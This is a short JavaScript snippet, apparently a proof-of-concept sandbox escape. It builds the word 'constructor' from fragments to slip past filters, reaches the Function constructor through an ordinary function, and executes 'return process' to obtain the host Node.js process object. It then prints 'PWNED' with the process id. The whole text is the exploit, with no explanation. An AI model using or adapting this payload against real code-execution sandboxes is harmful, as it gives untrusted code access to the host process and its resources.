const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
new C().go({});
const fn = (x) => x;
const o = { __proto__: C.prototype };
console.log('PWNED', o.go(fn)('return process')().pid);
